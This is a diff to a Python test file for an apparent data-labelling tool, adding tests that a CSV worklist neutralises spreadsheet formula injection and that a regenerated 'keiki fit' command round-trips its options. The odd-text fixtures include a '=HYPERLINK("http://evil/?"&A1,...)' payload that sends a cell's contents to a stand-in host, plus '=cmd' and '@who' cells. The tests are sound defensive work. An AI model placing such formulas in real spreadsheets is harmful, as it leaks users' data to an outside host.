@@ -4,9 +4,11 @@ from __future__ import annotations
 
 import csv
 import json
+import shlex
 import shutil
-from dataclasses import replace
+from dataclasses import asdict, fields, replace
 from pathlib import Path
+from typing import Any
 
 import numpy as np
 import pytest
@@ -14,15 +16,20 @@ import pytest
 from keiki.artifacts.bundle import Bundle
 from keiki.artifacts.outputs import FEATURES
 from keiki.artifacts.writer import write_bundle
+from keiki.cli.main import _group as main_group
 from keiki.cli.main import main
 from keiki.core.errors import DataError, KeikiError, OptionError, RequestError, UnknownName
 from keiki.core.files import sha256_bytes, sha256_file
-from keiki.data.adding import OURS, read_added
+from keiki.data.adding import read_added
 from keiki.data.sources.base import Request, read
+from keiki.data.worksheet import OURS
 from keiki.evaluation.acquisition import STRATEGIES, margin
 from keiki.pipeline import suggest as module
 from keiki.pipeline import worklist
-from keiki.pipeline.suggest import suggest
+from keiki.pipeline.fit import make_request
+from keiki.pipeline.request import FitRequest
+from keiki.pipeline.suggest import fit_command, suggest
+from keiki.pipeline.worklist import Suggestion
 from keiki.testing.bundles import image_handover, paint, text_handover
 
 POOL = ("a red apple pie", "call the phone shop", "apple phone", "a pear", "nothing of that", "green screen", "cracked")
@@ -161,6 +168,58 @@ def test_the_table_of_texts_has_the_columns_as_they_came(text_bundle: Path, text
     assert set(added.items.digests) <= set(whole.items.digests)
 
 
+ODD = (
+    "old mac\rline here you see",
+    "dos\r\nand unix\nlines",
+    'a "quoted" word, a comma; a semicolon\tand a tab',
+    "  blanks on both sides  ",
+    "line\u2028and\u2029paragraph\x85separators",
+    '=HYPERLINK("http://evil/?"&A1,"click") please help',
+    "+1 555 please call me back now",
+    "@SUM(1+1) some text here",
+    "-1.5",
+    "'=quoted before",
+    "\tbegins with a tab",
+    "- milk",
+)
+
+
+def test_odd_texts_come_back_as_they_were(tmp_path: Path) -> None:
+    pool = tmp_path / "pool.jsonl"
+    pool.write_text("".join(json.dumps({"text": text}) + "\n" for text in ODD), encoding="utf-8")
+    whole = read(pool, Request(labelled=False))
+    items = [Suggestion(*each, "-class", 0.5, "=why") for each in zip(whole.items.ids, whole.items.raws, strict=True)]
+    path = worklist.write(tmp_path / "to-label.csv", items, "text", pool, Request())
+    with path.open(newline="", encoding="utf-8-sig") as file:
+        cells = [cell for row in csv.reader(file, strict=True) for cell in row]
+    assert {cell for cell in cells if cell[:1] in tuple("=+-@\t\r")} == {"-1.5"}
+    filled(path, ["a"] * len(ODD))
+    found = read_added(path)
+    assert found.items.raws == whole.items.raws == ODD
+    assert found.items.digests == whole.items.digests
+    assert found.skipped == ()
+
+
+def test_formulas_in_other_columns_and_in_names_are_guarded_too(text_bundle: Path, tmp_path: Path) -> None:
+    pool = tmp_path / "pool.csv"
+    with pool.open("w", newline="", encoding="utf-8") as file:
+        csv.writer(file).writerows([("=cmd", "@who"), *((text, "+me") for text in POOL)])
+    request = Request(input="=cmd")
+    found = suggest(text_bundle, pool, 3, request=request)
+    path = worklist.write(tmp_path / "out.csv", found.items, found.modality, pool, request)
+    assert path.read_text().splitlines()[0] == f"'=cmd,{','.join(OURS)},'@who"
+    assert all(row["'@who"] == "'+me" for row in filled(path, ["fruit"] * 3))
+    assert set(read_added(path).items.raws) == {each.raw for each in found.items}
+
+
+def test_a_file_whose_name_begins_like_a_formula_is_found_again(image_bundle: Path, tmp_path: Path) -> None:
+    paint(tmp_path / "-pool")
+    found = suggest(image_bundle, tmp_path / "-pool", 4)
+    path = worklist.write(tmp_path / "out.csv", found.items, found.modality, tmp_path / "-pool", Request())
+    assert all(row["file"].startswith("'-pool/") for row in filled(path, ["red"] * 4))
+    assert list(read_added(path).items.digests) == [sha256_file(Path(str(each.raw))) for each in found.items]
+
+
 def test_several_columns_stay_several(text_bundle: Path, tmp_path: Path) -> None:
     pool = tmp_path / "p.csv"
     pool.write_text('subject,body,label\n"red, ripe","an apple\non a tree",x\nbroken,"phone ""x""",y\nRe:,,z\n')
@@ -224,6 +283,56 @@ def test_a_table_that_may_hold_labels_is_not_written_over(tmp_path: Path) -> Non
 
 
 # The command line
+
+
+ASKED = FitRequest(
+    data="/my data/photos",
+    out="/runs/first",
+    input="subject,body",
+    label="-team",
+    files="/it's here",
+    group="patient id",
+    time="day",
+    add="/before.csv",
+    val=0.1,
+    test="/other data",
+    method="lp-ft",
+    backbone="hf:some/model",
+    options=("epochs=5", "rate=1e-05"),
+    metric="f1",
+    positive="the 'odd' one",
+    controls="none",
+    accuracy=0.9,
+    seed=7,
+    samples=False,
+)
+HASTY = FitRequest(data="/photos", budget=90.5)  # stands beside no method
+
+
+@pytest.mark.parametrize("asked", [ASKED, HASTY, FitRequest(data="/photos")])
+def test_the_next_command_asks_for_the_same_again(asked: FitRequest, monkeypatch: pytest.MonkeyPatch) -> None:
+    class Heard(Exception):
+        pass
+
+    def hear(data: object, *, listeners: object, **wishes: Any) -> None:
+        raise Heard(make_request(data, **wishes))
+
+    monkeypatch.setattr("keiki.pipeline.fit.fit", hear)
+    command = shlex.split(fit_command(json.loads(json.dumps(asked.to_json()))))
+    assert command[:2] == ["keiki", "fit"]
+    with pytest.raises(Heard) as caught:
+        main_group()(args=[*command[1:], "--add", "/to-label.csv"], prog_name="keiki", standalone_mode=False)
+    assert caught.value.args == (replace(asked, out=None, add="/to-label.csv"),)
+
+
+def test_a_wish_of_a_fit_that_is_new_reaches_the_next_command() -> None:
+    told = {name for name, value in asdict(ASKED).items() if value != FitRequest.__dataclass_fields__[name].default}
+    assert {field.name for field in fields(FitRequest)} - told == {"budget"}
+
+
+def test_what_was_not_asked_for_is_not_said() -> None:
+    assert fit_command(FitRequest(data="/photos").to_json()) == "keiki fit /photos"
+    assert fit_command({}) == "keiki fit DATA"
 
 
 def test_suggest_says_what_next(
